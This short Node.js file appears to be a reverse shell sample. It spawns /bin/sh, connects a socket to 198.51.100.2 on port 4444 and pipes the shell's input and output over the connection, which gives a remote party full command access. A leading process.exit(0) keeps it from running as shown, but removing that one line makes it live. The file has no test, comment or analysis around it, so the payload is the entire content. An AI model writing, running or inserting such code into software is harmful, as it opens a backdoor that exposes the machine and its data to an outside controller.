process.exit(0);
const net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "198.51.100.2", () => {
  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
});
